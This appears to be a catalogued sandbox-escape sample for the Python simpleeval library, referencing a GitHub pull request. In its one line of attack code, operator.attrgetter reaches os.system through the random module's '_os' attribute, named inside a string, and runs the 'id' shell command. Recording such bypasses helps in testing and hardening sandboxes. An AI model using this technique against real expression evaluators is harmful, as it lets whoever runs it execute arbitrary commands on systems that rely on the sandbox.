# Source: https://github.com/danthedeckie/simpleeval/pull/199 (stdlib operator module bypasses the sandbox)
# Family: attr-in-string
# What: operator.attrgetter on a module name chain from random to os
import operator
import random

operator.attrgetter("_os.system")(random)("id")
